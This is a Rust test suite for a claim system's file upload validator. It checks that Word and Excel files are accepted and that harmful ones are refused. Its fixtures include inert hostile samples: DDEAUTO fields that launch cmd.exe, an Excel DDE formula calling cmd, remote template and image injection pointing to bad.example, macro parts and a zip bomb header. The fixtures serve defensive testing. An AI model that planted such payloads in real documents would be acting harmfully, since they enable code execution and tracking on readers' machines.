//! Files as other programs write them: of which kind each is, how its name ends, and what is said of a form that breaks off.

use crate::evidence::{PDF, draft, files};
use axum::body::{Body, to_bytes};
use rawzip::ZipArchiveWriter;
use std::io::Write;
use tests::{TestApp, Visitor, multipart};

const RELATIONS: (&str, &[u8]) = ("_rels/.rels", b"<Relationships/>");
/// What the parts of a Word document and of an Excel sheet are.
const WORD: (&str, &[u8]) = (
    "[Content_Types].xml",
    br#"<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#,
);
const EXCEL: (&str, &[u8]) = (
    "[Content_Types].xml",
    br#"<ct:Types xmlns:ct="x"><ct:Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></ct:Types>"#,
);

/// A zip of these parts in this order.
fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = ZipArchiveWriter::new(Vec::new());
    for (name, bytes) in parts {
        let (mut entry, config) = archive.new_file(*name).start().unwrap();
        let mut writer = config.wrap(&mut entry);
        writer.write_all(bytes).unwrap();
        let (_, descriptor) = writer.finish().unwrap();
        entry.finish(descriptor).unwrap();
    }
    archive.finish().unwrap()
}

/// What is said to do instead of a file, which is named.
async fn refused(amara: &mut Visitor, claim: &str, name: &str, bytes: &[u8]) -> String {
    let answer = amara.upload(&files(claim), name, bytes).await;
    let errors = answer.page.errors();
    assert_eq!(errors.len(), 1, "{name}: {}", answer.page.text());
    named(&errors[0], name.trim_matches(['.', ' ']))
}

/// What is said after the name of the file that was refused.
pub fn named(error: &str, name: &str) -> String {
    let why = error.strip_prefix(&format!("“{name}” was not added. "));
    why.unwrap_or_else(|| panic!("{name} is not named: {error}")).to_owned()
}

#[tokio::test]
async fn a_document_is_known_by_all_that_it_holds_in_whatever_order_and_size() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let long = vec![b'x'; 1_500_000];
    let (word, sheet) = (("word/document.xml", &long[..40_000]), ("xl/worksheets/sheet1.xml", &long[..]));
    let book = zip(&[EXCEL, sheet, ("xl/printerSettings/printerSettings1.bin", b"x")]);
    // What somebody clicks on, and the template on the disk of who wrote it.
    let relations: &[u8] = br#"<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://guide.example" TargetMode="External"/><Relationship Id="2" Type="http://x/attachedTemplate" Target="file:///C:\Users\A\Normal.dotm" TargetMode="External"/><Relationship Id="3" Type="http://x/image" Target="media/image1.png"/></Relationships>"#;
    let of_word: [&[(&str, &[u8])]; 5] = [
        &[WORD, RELATIONS, word, ("word/_rels/document.xml.rels", relations)],
        &[word, RELATIONS, WORD],
        &[("docProps/app.xml", &long), ("docProps/core.xml", b"<x/>"), RELATIONS, WORD, word],
        &[("customXml/item1.xml", &long[..9_000]), WORD, ("Word/Document2.xml", b"<x/>")],
        &[WORD, word, ("word/embeddings/book.xlsx", &book)],
    ];
    for (n, parts) in of_word.into_iter().enumerate() {
        let page = amara.upload(&files(&claim), &format!("letter {n}.docx"), &zip(parts)).await.must_say("is added.");
        assert!(page.says("Word document"), "{n}: {}", page.text());
    }
    for (n, parts) in [[EXCEL, RELATIONS, sheet], [sheet, EXCEL, RELATIONS]].iter().enumerate() {
        let page = amara.upload(&files(&claim), &format!("hours {n}.xlsx"), &zip(parts)).await.must_say("is added.");
        assert!(page.says("Excel sheet"), "{n}: {}", page.text());
    }
}

#[tokio::test]
async fn a_zip_that_is_no_document_is_broken_or_harms_is_refused_and_said_to_be_so() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let before = app.contents().await;
    let word: (&str, &[u8]) = ("word/document.xml", b"<x/>");
    let slides: (&str, &[u8]) = ("ppt/presentation.xml", b"<x/>");
    let both: (&str, &[u8]) =
        ("[Content_Types].xml", &[&WORD.1[..WORD.1.len() - 8], &EXCEL.1[22..EXCEL.1.len() - 11], b"</Types>"].concat());
    let of_slides: (&str, &[u8]) = ("[Content_Types].xml", br#"<Types><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>"#);
    let no_types: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");
    for parts in [&[word][..], &[no_types, RELATIONS, word], &[of_slides, slides], &[both, word]] {
        let why = refused(&mut amara, &claim, "letter.docx", &zip(parts)).await;
        assert!(why.starts_with("Choose a PDF, a picture"), "{why}");
    }
    let whole = zip(&[WORD, RELATIONS, word]);
    let directory = whole.windows(4).position(|four| four == b"PK\x01\x02").unwrap();
    let mut garbled = whole.clone();
    garbled[directory] = b'x';
    let names: Vec<String> = (0..12_000).map(|n| format!("word/{n:060}")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b""[..])).collect();
    for broken in [&whole[..whole.len() - 30], &whole[..40], &garbled, &zip(&many)] {
        let why = refused(&mut amara, &claim, "letter.docx", broken).await;
        assert_eq!(why, "Save the document again and choose that: this file is damaged or has too many parts");
    }
    // What the list says of the size of its first part.
    let mut bomb = whole;
    bomb[directory + 24..directory + 28].copy_from_slice(&4_000_000_000_u32.to_le_bytes());
    let why = refused(&mut amara, &claim, "letter.docx", &bomb).await;
    assert_eq!(why, "Choose a smaller document: unpacked, this one comes to more than 500 MB");
    let mut old = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
    old.extend([0; 2000]);
    let why = refused(&mut amara, &claim, "letter.doc", &old).await;
    assert_eq!(
        why,
        "This is a file of an old kind, such as .doc, .xls or an Outlook message (.msg). Save it as .docx, .xlsx or PDF"
    );
    let harms = |parts: &[(&str, &[u8])]| zip(&[&[WORD, word], parts].concat());
    let related = |kind: &str, to: &str, mode: &str| {
        let text =
            format!(r#"<Relationships><r:Relationship Type="http://x/{kind}" Target="{to}" {mode}/></Relationships>"#);
        harms(&[("word/_rels/settings.xml.rels", text.as_bytes())])
    };
    let typed = |kind: &str| {
        let more = format!(r#"<Override PartName="/word/a.xml" ContentType="{kind}"/></Types>"#);
        let types = [&WORD.1[..WORD.1.len() - 8], more.as_bytes()].concat();
        zip(&[("[Content_Types].xml", &types), word, ("word/a.xml", b"<x/>")])
    };
    let within = zip(&[WORD, word, ("word/embeddings/a.docx", &harms(&[("word/run.exe", b"MZ")]))]);
    let nested =
        zip(&[WORD, word, ("word/embeddings/a.docx", &zip(&[WORD, ("word/embeddings/b.docx", &zip(&[WORD, word]))]))]);
    let external = "TargetMode=\"External\"";
    for (does, parts) in [
        ("holds a program", harms(&[("word/vbaProject.bin", b"x")])),
        ("holds a program", typed("application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("holds a program", typed("application/vnd.ms-excel.macrosheet+xml")),
        ("holds a program", related("vb&#x61;Project", "theme/theme1.xml", "")),
        ("holds a file or a control", harms(&[("word/run.exe", b"MZ")])),
        ("holds a file or a control", typed("application/vnd.ms-office.activeX+xml")),
        ("holds a file or a control", related("oleObject", "media/a.xml", "")),
        ("holds a file or a control", related("control", "media/a.xml", "")),
        ("holds a file or a control", within),
        ("holds a file or a control", nested),
        ("fetches something", related("attachedTemplate", "https://bad.example/t.dotm", external)),
        ("fetches something", related("attachedTemplate", r"file:///\\bad.example\t.dotm", external)),
        ("fetches something", related("image", "https://bad.example/seen.png", "TargetMode='EXTERNAL'")),
        ("fetches something", related("externalLinkPath", "other.xml", "")),
        ("is damaged", harms(&[("word/_rels/a.xml.rels", b"<!DOCTYPE x []><Relationships/>")])),
        ("is damaged", harms(&[("word/_rels/a.xml.rels", b"<\0R\0")])),
        ("is damaged", harms(&[("WORD/document.xml", b"<y/>")])),
        ("is damaged", harms(&[("word/_rels/a.xml.rels\0.xml", b"<x/>")])),
        (
            "is damaged",
            harms(&[("word/_rels/a.xml.rels", br#"<?xml version="1.0" encoding="UTF-7"?><Relationships/>"#)]),
        ),
        ("fetches something", related("hyperlink", "https://bad.example/t.dotm", external)),
    ] {
        let why = refused(&mut amara, &claim, "letter.docx", &parts).await;
        assert!(why.starts_with("Save the document") && why.contains(does), "{does}: {why}");
    }
    assert_eq!(app.contents().await, before);
    assert!(app.evidence_files().is_empty());
}

/// A part of a Word document, an Excel sheet or a drawing with this in it.
fn part(content: &str) -> Vec<u8> {
    let (word, sheet) = (
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://purl.oclc.org/ooxml/spreadsheetml/main",
    );
    let (vml, sums) = ("urn:schemas-microsoft-com:vml", "http://schemas.openxmlformats.org/officeDocument/2006/math");
    format!("<x xmlns:w='{word}' xmlns:s='{sheet}' xmlns:v='{vml}' xmlns:m='{sums}'>{content}</x>").into_bytes()
}

#[tokio::test]
async fn a_document_whose_text_takes_something_in_by_itself_is_refused_with_what_to_do() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let before = app.contents().await;
    let field = |parts: &[&str]| {
        let runs: String = parts.iter().map(|part| format!("<w:r><w:instrText>{part}</w:instrText></w:r>")).collect();
        format!(
            "<w:fldChar w:fldCharType='begin'/>{runs}<w:fldChar w:fldCharType='separate'/><w:t>1</w:t><w:fldChar w:fldCharType='end'/>"
        )
    };
    let simple = |does: &str| format!("<w:fldSimple w:instr=' {does} '/>");
    let formula = |does: &str| format!("<s:f>{does}</s:f>");
    let within = format!(
        "<w:fldChar w:fldCharType='begin'/><w:instrText>IF 1 = </w:instrText>{}<w:fldChar w:fldCharType='end'/>",
        field(&["dde ", "excel"])
    );
    for (does, text) in [
        ("a field of this one", simple("DDEAUTO c:\\\\windows\\\\cmd.exe")),
        ("a field of this one", simple("LINK Excel.Sheet.12 book.xlsx")),
        ("a field of this one", field(&[" D", "D&#x45;", "AUTO excel"])),
        ("a field of this one", field(&["includetext //bad.example/a.docx"])),
        ("a field of this one", within),
        ("a mail merge", String::from("<w:mailMerge><w:connectString w:val='DSN=x'/></w:mailMerge>")),
        ("fetched from elsewhere", String::from("<v:imagedata src='https://bad.example/seen.png'/>")),
        ("fetched from elsewhere", String::from("<v:fill src='\\\\bad.example\\a.png'/>")),
        ("Put the values", formula("_xlfn.WEBSERVICE(&quot;https://bad.example&quot;)")),
        ("Put the values", formula("1+_xlfn.i<![CDATA[mage]]>(A1)")),
        ("Put the values", formula("RTD(\"prog\",,\"x\")")),
        ("Put the values", formula("cmd|'/c calc'!A0")),
        ("Put the values", String::from("<s:definedName name='a'>WEBSERVICE(A1)</s:definedName>")),
    ] {
        let text = part(&text);
        for parts in [[WORD, ("word/document.xml", &text[..])], [EXCEL, ("xl/drawings/a.vml", &text[..])]] {
            let why = refused(&mut amara, &claim, "letter.docx", &zip(&parts)).await;
            assert!(why.contains(does), "{does}: {why}");
        }
        // Whatever it is written in.
        let wide: Vec<u8> = [0xfeff]
            .into_iter()
            .chain(String::from_utf8(text).unwrap().encode_utf16())
            .flat_map(u16::to_le_bytes)
            .collect();
        let why = refused(&mut amara, &claim, "letter.docx", &zip(&[WORD, ("word/document.xml", &wide[..])])).await;
        assert!(why.contains(does), "{does}: {why}");
    }
    assert_eq!(app.contents().await, before);
    // What people write, and what Word and Excel make of it.
    let ordinary = [
        simple("PAGE"),
        simple("HYPERLINK \"https://guide.example\""),
        field(&[" INCLUDEPICTURE ", "\"https://guide.example/a.png\" \\* MERGEFORMATINET"]),
        field(&["TOC \\o"]),
        String::from("<w:t>DDE and LINK are fields.</w:t><w:fldChar w:fldCharType='end'/>"),
        String::from("<m:f><m:num>|x|</m:num></m:f><v:imagedata title='a'/><v:textbox>one<br>two</v:textbox>"),
        formula("SUM(A1:A3)&amp;\"a|b\"&amp;'x|y'!A1+MYIMAGE(2)"),
        String::from("<s:v>WEBSERVICE(</s:v>"),
    ];
    let text = part(&ordinary.concat());
    let links = r#"<?xml version="1.0" encoding="UTF-16"?><Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://guide.example" TargetMode="External"/></Relationships>"#;
    let wide = |text: &str| -> Vec<u8> {
        [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect()
    };
    let whole = zip(&[WORD, ("word/document.xml", &text[..]), ("word/_rels/document.xml.rels", &wide(links)[..])]);
    amara.upload(&files(&claim), "letter.docx", &whole).await.must_say("is added.");
    let fetches = links.replace("hyperlink", "image");
    let whole = zip(&[WORD, ("word/document.xml", &text[..]), ("word/_rels/document.xml.rels", &wide(&fetches)[..])]);
    let why = refused(&mut amara, &claim, "other.docx", &whole).await;
    assert!(why.contains("fetches something from elsewhere"), "{why}");
}

#[tokio::test]
async fn a_text_is_taken_in_whatever_windows_writes_it() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let utf_16: Vec<u8> =
        [0xfeff].into_iter().chain("It cost £5.\r\n".encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> =
        [0xfeff].into_iter().chain("It cost £6.\r\n".encode_utf16()).flat_map(u16::to_be_bytes).collect();
    let texts: [(&str, &[u8], &str); 7] = [
        ("windows.txt", b"It cost \xa35, \x93she said\x94.\r\n", "windows-1252"),
        ("notepad.txt", &utf_16, "utf-16le"),
        ("big.txt", &big, "utf-16be"),
        ("mark.txt", b"\xef\xbb\xbfIt cost \xc2\xa37.", "utf-8"),
        ("pages.txt", b"Page one\x0cPage two\x0bits second line", "utf-8"),
        ("address.txt", b"<https://guide.example/offers> says how.", "utf-8"),
        ("heart.txt", b"<3 this work", "utf-8"),
    ];
    for (name, bytes, charset) in texts {
        let page = amara.upload(&files(&claim), name, bytes).await.must_say("The file is added.");
        let answer = amara.get(&page.link(name)).await;
        assert_eq!(answer.header("content-type"), format!("text/plain; charset={charset}"), "{name}");
        assert_eq!(answer.bytes, bytes);
    }
    let page_of_web: Vec<u8> =
        [0xfeff].into_iter().chain("<html><script>".encode_utf16()).flat_map(u16::to_le_bytes).collect();
    for (name, bytes) in
        [("page.txt", &page_of_web[..]), ("noise.txt", b"\x81\x8d\x90 noise"), ("odd.txt", b"a\x1b[2J")]
    {
        let why = refused(&mut amara, &claim, name, bytes).await;
        assert!(why.starts_with("Choose a PDF, a picture"), "{name}: {why}");
    }
}

#[tokio::test]
async fn a_name_ends_as_its_content_and_that_of_a_program_is_refused() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    for (n, (sent, kept)) in [
        ("report.html", "report.html.txt"),
        ("notes.TXT", "notes.TXT"),
        ("photo.svg", "photo.svg.txt"),
        ("letter.docx", "letter.docx.txt"),
        ("notes", "notes.txt"),
        ("ending.txt.", "ending.txt"),
    ]
    .into_iter()
    .enumerate()
    {
        let text = format!("Text {n}");
        let page = amara.upload(&files(&claim), sent, text.as_bytes()).await.must_say("The file is added.");
        let answer = amara.get(&page.link(kept)).await;
        assert_eq!(answer.header("content-disposition"), format!("attachment; filename*=UTF-8''{kept}"));
    }
    let before = app.contents().await;
    for name in ["photo.jpg.hta", "invoice.pdf.EXE", "x.bat", "x.js", "x.url", "x.txt.ps1.", "x.vbs "] {
        let why = refused(&mut amara, &claim, name, b"Only text.").await;
        assert_eq!(why, "Choose a document or a picture: the name of this file is that of a program", "{name}");
    }
    assert_eq!(app.contents().await, before);
}

#[tokio::test]
async fn a_form_with_a_file_that_can_not_be_read_says_why() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let before = app.contents().await;
    let path = files(&claim);
    let part = "------gradus-test-boundary\r\nContent-Disposition: form-data; name=\"more\"\r\n\r\nx\r\n";
    let broken_off = "Choose the file again: it did not arrive whole";
    let in_the_file = format!("“scan.pdf” was not added. {broken_off}");
    for (cut, more, error) in [
        // In the file, and before it.
        (30, 0, in_the_file.as_str()),
        (150, 0, broken_off),
        (0, 200, "Choose the file on this page: what was sent has more parts than a form of this page"),
    ] {
        let mut form = multipart(&path, Some(&amara.sheet(&path).await), ("scan.pdf", PDF));
        let whole = to_bytes(std::mem::take(form.body_mut()), usize::MAX).await.unwrap();
        let text = String::from_utf8(whole.to_vec()).unwrap();
        let file = text.rfind("------gradus-test-boundary\r\n").unwrap();
        let sent = format!("{}{}{}", &text[..file], part.repeat(more), &text[file..text.len() - cut]);
        *form.body_mut() = Body::from(sent);
        form.headers_mut().remove("content-length");
        let answer = amara.run(form).await;
        let answer = amara.get(answer.header("location")).await;
        assert_eq!(answer.page.errors(), [error], "{}", answer.page.text());
    }
    // Without a sheet it is no form of ours, and nothing about sizes.
    let mut garbage = multipart(&path, None, ("scan.pdf", PDF));
    *garbage.body_mut() = Body::from("no form at all");
    garbage.headers_mut().remove("content-length");
    assert_eq!(amara.run(garbage).await.status, 400);
    assert_eq!(app.contents().await, before);
    assert!(app.evidence_files().is_empty());
}

#[tokio::test]
async fn a_refused_file_is_named_as_far_as_a_line_has_room_and_without_what_misleads() {
    let app = TestApp::new().await;
    let (mut amara, claim) = draft(&app).await;
    let long = format!("{}.exe", "n".repeat(300));
    let cut = format!("{}…", "n".repeat(60));
    for (sent, named) in [("tool.exe", "tool.exe"), ("C:\\Work\\tool.exe", "tool.exe"), (long.as_str(), cut.as_str())] {
        let answer = amara.upload(&files(&claim), sent, b"Only text.").await;
        let errors = answer.page.errors();
        assert!(errors[0].starts_with(&format!("“{named}” was not added. ")), "{sent}: {errors:?}");
    }
}
